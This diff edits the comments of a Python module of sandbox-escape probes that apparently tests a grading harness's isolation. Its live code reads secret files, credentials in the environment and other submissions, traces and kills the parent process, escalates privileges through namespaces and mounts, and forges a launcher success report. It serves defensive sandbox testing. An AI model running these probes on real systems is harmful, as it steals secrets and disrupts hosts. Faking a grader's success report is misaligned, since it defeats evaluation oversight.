@@ -1,7 +1,8 @@
-"""Ways out of the sandbox: to the network, files, other processes, the kernel. Each returns what it gained.
+"""Attempts to escape from the sandbox: to the network, files, other processes, the kernel. Each returns its gain.
 
-An attack plants this whole file in an experiment. Outside of the sandbox each attempt gains something
-(`tests/test_attack_attempts.py` runs them there), so none fails for a silly reason. Standard library only.
+An attack adds this whole file to an experiment. Without a sandbox, each attempt gains something
+(`tests/test_attack_attempts.py` checks this), so no attempt fails for a trivial reason. This file uses only the
+standard library.
 """
 
 import contextlib
@@ -22,13 +23,13 @@ import time
 from collections.abc import Callable
 from typing import Any
 
-# What the attacker knows of the grader's machine: `canary`, a secret file; `submissions`; `suite`, the repository;
-# `machine`, its name.
+# The attacker's knowledge about the grader's machine: `canary`, a secret file; `submissions`; `suite`, the repository;
+# `machine`, its host name.
 Known = dict[str, str]
 
 
 def works(attempt: Callable[..., object], *arguments: object) -> bool:
-    """Say whether a call ends without an error."""
+    """Return whether a call succeeds without an exception."""
     try:
         attempt(*arguments)
     except (OSError, ValueError, subprocess.SubprocessError):
@@ -37,7 +38,7 @@ def works(attempt: Callable[..., object], *arguments: object) -> bool:
 
 
 def readable(path: str) -> bytes:
-    """Return the beginning of a file or the target of a link; nothing if that is not allowed."""
+    """Return the beginning of a file, or the target of a link. Return b"" if reading is not allowed."""
     try:
         if os.path.islink(path):
             return os.readlink(path).encode()
@@ -48,12 +49,12 @@ def readable(path: str) -> bytes:
 
 
 def openable(path: str, flags: int = os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY) -> bool:
-    """Say whether a file or device can be opened."""
+    """Return whether a file or device can be opened."""
     return works(lambda: os.close(os.open(path, flags)))
 
 
 def call(x86: int, arm: int, *arguments: object) -> int:
-    """Make a system call by its number, whatever glibc makes of it; below 0 for an error."""
+    """Make a system call by its number, without glibc's checks. The result is negative for an error."""
     libc = ctypes.CDLL(None, use_errno=True)
     libc.syscall.restype = ctypes.c_long
     number = arm if os.uname().machine == "aarch64" else x86
@@ -62,7 +63,7 @@ def call(x86: int, arm: int, *arguments: object) -> int:
 
 
 def call_in_a_child(x86: int, arm: int, *arguments: object) -> int:
-    """Make a system call in a child, which ends with it; below 0 for an error."""
+    """Make a system call in a child process, which then ends. The result is negative for an error."""
     child = os.fork()
     if child == 0:
         os._exit(0 if call(x86, arm, *arguments) >= 0 else 1)
@@ -75,7 +76,7 @@ def succeeded(results: dict[str, int]) -> list[str]:
 
 
 def inherited_descriptors(known: Known) -> object:
-    """Look for pipes, sockets, nameless and inheritable files that were open where it was forked."""
+    """Look for inherited pipes, sockets, nameless files and inheritable files."""
     found = []
     for number in range(3, 4096):
         try:
@@ -89,13 +90,13 @@ def inherited_descriptors(known: Known) -> object:
 
 
 def report_of_the_launcher(known: Known) -> object:
-    """Say in the launcher's name, into whatever is open, that it ended well and left good results."""
+    """Write a false report of the launcher to all open files: the run ended well and left good results."""
     ending = b"OK 0 - \0" + b"2 metrics.log\0{}" + b"\0"
     return [number for number in range(3, 4096) if works(os.write, number, ending)]
 
 
 def rights_left(known: Known) -> object:
-    """Ask the kernel what rights it still has, and whether a filter watches it; its children too."""
+    """Ask the kernel which rights this process and its children have, and whether a filter is active."""
     libc = ctypes.CDLL(None)
 
     def rights() -> list[str]:
@@ -113,7 +114,7 @@ def rights_left(known: Known) -> object:
 
 
 def marks_of_other_runs(known: Known) -> object:
-    """Leave marks in memory and in every folder, and look for those of runs before it."""
+    """Leave marks in memory and in every folder, and look for marks of earlier runs."""
     mark = "attack-mark"
     start = os.stat("/input/job.json").st_ctime if os.path.exists("/input/job.json") else float("inf")
     found: list[object] = []
@@ -132,20 +133,20 @@ def marks_of_other_runs(known: Known) -> object:
 
 
 def processes_beside(known: Known) -> object:
-    """Ask for a handle of every process: of the one that forked it, of other runs."""
+    """Ask for a handle of every process: the parent, and the processes of other runs."""
     others = (pid for pid in range(2, 1 << 15) if pid != os.getpid())
     return [pid for pid in others if works(lambda number: os.close(os.pidfd_open(number)), pid)]
 
 
 def network_families(known: Known) -> object:
-    """Open a socket of every address family and type, also by the kernel's own numbers."""
+    """Open a socket of every address family and type, also with the kernel's own numbers."""
     kinds = [(kind, protocol) for kind in (1, 2, 3, 5) for protocol in (0, 1, 17, 768)]
     made = [(family, *kind) for family in range(64) for kind in kinds if works(socket.socket, family, *kind)]
     return [*made, *(family for family in (1, 2, 10, 16, 17, 38, 40) if call(41, 198, family, 2, 0) >= 0)]
 
 
 def home_folder(known: Known) -> object:
-    """Read the grader's home folder, and a secret in it by its full path."""
+    """Read the grader's home folder, and read a secret file in it by its full path."""
     import harness
 
     canary = known["canary"]
@@ -155,7 +156,7 @@ def home_folder(known: Known) -> object:
     found = [readable(canary)] if readable(canary) else []
     for place in places:
         if place != "/" and not place.startswith(shown) and works(os.listdir, place):
-            # Python itself and the harness may lie in a home folder; that much is shown.
+            # Python itself and the harness may be in a home folder. The sandbox shows these files.
             names = [os.path.join(place, name) for name in os.listdir(place)]
             shown_there = (sys.base_prefix, sys.prefix, harness.__file__)
             found += [name.encode() for name in names if not any(one.startswith(name) for one in shown_there)]
@@ -181,13 +182,13 @@ def answers(known: Known) -> object:
 
 
 def other_submissions(known: Known) -> object:
-    """Read what others handed in."""
+    """Read other students' submissions."""
     walked = os.walk(known["submissions"])
     return [readable(os.path.join(folder, name)) for folder, _, files in walked for name in files]
 
 
 def environment(known: Known) -> object:
-    """Read the environment of the grader: its own and that of its parents."""
+    """Read the environment variables of this process and of its parents."""
     found = [name for name in os.environ if name.startswith(("TRAINWRECK", "SSH", "AWS", "USER", "VIRTUAL"))]
     return [*found, *(pid for pid in {1, os.getppid()} if readable(f"/proc/{pid}/environ"))]
 
@@ -201,7 +202,7 @@ def other_processes(known: Known) -> object:
 
 
 def writing_everywhere(known: Known) -> object:
-    """Write into every folder of the machine, of the grader, and of Python."""
+    """Write to every folder of the machine, of the grader, and of Python."""
     import harness
 
     places = ["/", *glob.glob("/*"), *glob.glob("/usr/*"), "/var/tmp", sys.prefix, "..", "../.."]
@@ -213,12 +214,12 @@ def writing_everywhere(known: Known) -> object:
         if openable(path, os.O_CREAT | os.O_WRONLY):
             os.remove(path)
             written.append(path)
-    # Its own folders, and nobody else's, wherever the suite itself may lie.
+    # Ignore the run's own folders. The suite itself may be inside one of them.
     return [path for path in written if not path.startswith(("/scratch/", "/tmp/", "/dev/shm/"))]
 
 
 def kernel_files(known: Known) -> object:
-    """Open the switches of the kernel for writing: core pattern, sysrq, control groups, its own identity."""
+    """Open kernel settings for writing: core pattern, sysrq, control groups, uid maps."""
     paths = ["/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/proc/1/mem", "/proc/1/oom_score_adj"]
     paths += ["/proc/self/oom_score_adj", "/proc/self/attr/current"]
     for pattern in ("/proc/sys/kernel/*", "/sys/kernel/*", "/sys/fs/cgroup/*.max"):
@@ -227,10 +228,10 @@ def kernel_files(known: Known) -> object:
 
 
 def devices(known: Known) -> object:
-    """Open and make devices: disks, memory, terminals."""
+    """Open and create devices: disks, memory, terminals."""
     usual = ("null", "full", "random", "urandom", "stdin", "stdout", "stderr")
     walked = [(folder, name) for folder, _, names in os.walk("/dev") for name in names if name not in usual]
-    # /dev/shm holds the marks of the attempt after this one, if the experiment is loaded twice.
+    # If the experiment is loaded twice, /dev/shm contains the marks of a later attempt.
     walked = [(folder, name) for folder, name in walked if not name.startswith("attack-mark")]
     found = [name for folder, name in walked if openable(os.path.join(folder, name))]
     memory, disk = stat.S_IFCHR | 0o666, stat.S_IFBLK | 0o666
@@ -255,7 +256,7 @@ def terminal(known: Known) -> object:
 
 
 def tracing(known: Known) -> object:
-    """Trace its parent, offer itself to be traced, and read the memory of others."""
+    """Trace the parent process, offer to be traced, and read the memory of other processes."""
     own, parent = os.getpid(), os.getppid()
     buffer = ctypes.create_string_buffer(64)
     vector = ctypes.byref((ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64))
@@ -271,7 +272,7 @@ def tracing(known: Known) -> object:
 
 
 def mounts(known: Known) -> object:
-    """Mount, unmount and change the root."""
+    """Mount and unmount file systems, and change the root."""
     os.makedirs("attack-mount", exist_ok=True)
     here = os.path.abspath("attack-mount").encode()
     results = {
@@ -289,7 +290,7 @@ def mounts(known: Known) -> object:
 
 
 def namespaces(known: Known) -> object:
-    """Make and enter namespaces, in which it would be root."""
+    """Create and enter namespaces in which this process would be root."""
     made: list[object] = []
     for flag in (0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x10000000, 0x20000000, 0x40000000):
         made += [("unshare", flag)] if call_in_a_child(272, 97, flag) >= 0 else []
@@ -301,7 +302,7 @@ def namespaces(known: Known) -> object:
 
 
 def keyrings(known: Known) -> object:
-    """Put a key into a keyring, where it would outlive the run, and look for those of others."""
+    """Add a key to a keyring, where it would outlive the run, and look for keys of others."""
     results = {
         "add": call(248, 217, b"user", b"attack", b"payload", 7, -2),
         "request": call(249, 218, b"user", b"attack", 0, -2),
@@ -312,7 +313,7 @@ def keyrings(known: Known) -> object:
 
 
 def kernel_surface(known: Known) -> object:
-    """Ask for io_uring, BPF, page faults, handles of files, notices of other people's files, the kernel's log."""
+    """Ask for io_uring, BPF, page faults, file handles, notifications about others' files, and the kernel's log."""
     table = ctypes.create_string_buffer(bytes([1, 0, 0, 0, 4, 0, 0, 0, 4, 0, 0, 0, 1, 0]), 72)
     handle = ctypes.create_string_buffer(bytes([128]), 256)
     results = {
@@ -328,19 +329,20 @@ def kernel_surface(known: Known) -> object:
 
 
 def shared_files(known: Known) -> object:
-    """Make others wait for a file that they share with it, or signal another run through one."""
+    """Block other processes at a file that they share with this run, or signal another run through a shared file."""
     gained: list[object] = []
     libc = ctypes.CDLL(None)
     libc.mmap.restype = ctypes.c_void_p
     for path in (known["canary"], os.__file__, *glob.glob("/usr/lib/*/libc.so.6")):
         with contextlib.suppress(OSError), open(path, "rb") as file:
-            # A lease: whoever opens the file waits for 45 seconds. A lock, a lock of an open file, a notice.
+            # A lease: another process that opens the file waits for 45 seconds. A lock, an open-file lock, a
+            # notification.
             taken: dict[str, tuple[Any, ...]] = {"lease": (fcntl.fcntl, file, fcntl.F_SETLEASE, fcntl.F_RDLCK)}
             taken["lock"] = (fcntl.flock, file, fcntl.LOCK_SH)
             taken["range"] = (fcntl.fcntl, file, 37, struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 1, 0))
             taken["owner"] = (fcntl.fcntl, file, fcntl.F_SETOWN, os.getpid())
             gained += [(path, name) for name, (take, *arguments) in taken.items() if works(take, *arguments)]
-            # FUTEX_WAKE, not private: it reaches whoever waits for the same page of the file.
+            # FUTEX_WAKE without the private flag wakes every process that waits at the same page of the file.
             page = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, file.fileno(), ctypes.c_long(0))
             gained += [(path, "futex")] if call(202, 98, page, 1, 1, 0, 0, 0) >= 0 else []
     notices = call(294, 26, 0)
@@ -351,7 +353,7 @@ def shared_files(known: Known) -> object:
 
 
 def uncounted_memory(known: Known) -> object:
-    """Make memory that no limit counts: shared, nameless, of queues, and of the kernel itself."""
+    """Allocate memory that no limit counts: shared or anonymous memory, queues, and kernel memory."""
     results = {"shared": 0 if works(mmap.mmap, -1, 1 << 20) else -1, "segment": call(29, 194, 0, 1 << 20, 0o1666)}
     results["queue"] = call(68, 186, 0, 0o1666)
     for name, x86, arm in (("segment", 31, 195), ("queue", 71, 187)):
@@ -365,7 +367,7 @@ def uncounted_memory(known: Known) -> object:
         "lock": call(149, 228, ctypes.create_string_buffer(4096), 4096),
     }  # fmt: skip
     with open("attack-attributes", "w") as file:
-        # Each fills 64 KiB of the kernel's memory; a file may have thousands.
+        # Each attribute takes 64 KiB of the kernel's memory, and a file may have thousands.
         results["attribute"] = 0 if works(os.setxattr, file.fileno(), "user.attack", b"x" * 1000) else -1
     os.remove("attack-attributes")
     reading, writing = os.pipe()
@@ -378,13 +380,13 @@ def uncounted_memory(known: Known) -> object:
 
 
 def other_programs(known: Known) -> object:
-    """Start a program: a shell, a compiler, one with the rights of its owner."""
+    """Start a program: a shell, a compiler, a set-user-id program."""
     asked = {name: lambda name=name: subprocess.run([name, "--version"], capture_output=True) for name in ("sh", "env")}
     return [name for name, attempt in asked.items() if works(attempt)]
 
 
 def becoming_root(known: Known) -> object:
-    """Ask for rights: user 0, priority, higher limits, programs with the bit of another user."""
+    """Ask for rights: user 0, priority, higher limits, set-user-id bits."""
     asked: dict[str, Callable[[], object]] = {
         "user": lambda: os.setresuid(0, 0, 0),
         "group": lambda: os.setgroups([0]),
@@ -398,7 +400,7 @@ def becoming_root(known: Known) -> object:
 
 
 def who_is_there(known: Known) -> object:
-    """Ask for the name of the machine, its users and its disks."""
+    """Ask for the machine's name, its users and its disks."""
     paths = ["/sys/class/net", "/sys/block", "/sys/class/dmi", "/var/log"]
     paths += [f"/etc/{name}" for name in ("hostname", "shadow", "hosts", "ssh", "machine-id", "resolv.conf")]
     found = [path for path in paths if os.path.exists(path)]
@@ -406,9 +408,9 @@ def who_is_there(known: Known) -> object:
 
 
 def signals_upwards(known: Known) -> object:
-    """Stop and kill the process that started it."""
+    """Stop and kill the parent process."""
     if os.getppid() != 1:
-        return []  # elsewhere it would hit a bystander
+        return []  # without a sandbox, it would hit an unrelated process
     for number in (signal.SIGCONT, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGSEGV):
         works(os.kill, 1, number)
     state = readable("/proc/1/stat").rpartition(b")")[2].split()
@@ -424,9 +426,9 @@ ATTEMPTS: tuple[Callable[[Known], object], ...] = (
 
 
 def gains(known: Known) -> dict[str, str]:
-    """Make every attempt; return what each gained, those that gained nothing left out.
+    """Make every attempt, and return the gains by attempt, without attempts that gained nothing.
 
-    Only the system refuses by an `OSError`; any other error is a fault of the attempt, which nothing may hide.
+    The system refuses an attempt only with an `OSError`. Any other error is a mistake in the attempt and is not hidden.
     """
     found = {}
     for attempt in ATTEMPTS:
